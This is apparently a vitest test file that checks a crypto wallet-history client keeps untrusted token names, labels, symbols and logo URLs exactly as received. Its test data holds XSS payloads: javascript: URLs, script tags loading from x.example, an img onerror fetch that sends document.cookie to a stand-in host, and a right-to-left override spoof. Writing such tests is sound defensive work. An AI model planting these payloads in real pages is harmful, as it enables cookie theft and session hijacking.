import { describe, expect, it } from 'vitest'
import { json } from './support/fakeUpstream.js'
import { WALLET, rawEntry, rawErc20, rawPage } from './support/fixtures.js'
import { useFaultService } from './support/harness.js'

// Hostile text the service may pass on from token creators. The core keeps it exactly;
// making it inert is the components' job (see test/faults/dom).
const service = useFaultService()

async function readErc20(extra: Record<string, unknown>) {
  service.upstream.reply((_c, res) => json(res, 200, rawPage([rawEntry(1, { erc20_transfer: [rawErc20(extra)] })])))
  return (await service.client().getWalletHistory({ address: WALLET })).result[0]!.erc20_transfer[0]!
}

describe('untrusted text and URLs kept exactly by the core', () => {
  it.each([
    'javascript:alert(document.cookie)',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'http://tracker.example/logo.png',
    'JaVaScRiPt:alert(1)',
  ])('a logo URL %s → kept exactly in token_logo (not rewritten, not dropped)', async (logo) => {
    expect((await readErc20({ token_logo: logo })).token_logo).toBe(logo)
  })

  it('<script> in a token name and an address label → kept exactly as text', async () => {
    const transfer = await readErc20({ token_name: '<script>alert(1)</script>', to_address_label: '</div><script src=//x.example/a.js></script>' })
    expect(transfer.token_name).toBe('<script>alert(1)</script>')
    expect(transfer.to_address_label).toBe('</div><script src=//x.example/a.js></script>')
  })

  it('<img onerror> in an entry’s labels → kept exactly as text', async () => {
    const label = '<img src=x onerror="fetch(`//x.example/`+document.cookie)">'
    service.upstream.reply((_c, res) => json(res, 200, rawPage([rawEntry(1, { from_address_label: label, to_address_label: label })])))
    const entry = (await service.client().getWalletHistory({ address: WALLET })).result[0]!
    expect([entry.from_address_label, entry.to_address_label]).toEqual([label, label])
  })

  it('U+202E (right-to-left override) and zero-width characters in a symbol → kept exactly', async () => {
    const symbol = 'US\u202EDC\u200B\u200D\uFEFF'
    expect((await readErc20({ token_symbol: symbol })).token_symbol).toBe(symbol)
  })

  it('a 1 MB label → kept exactly, full length', async () => {
    const label = 'A'.repeat(1024 * 1024)
    expect((await readErc20({ from_address_label: label })).from_address_label).toBe(label)
  })
})
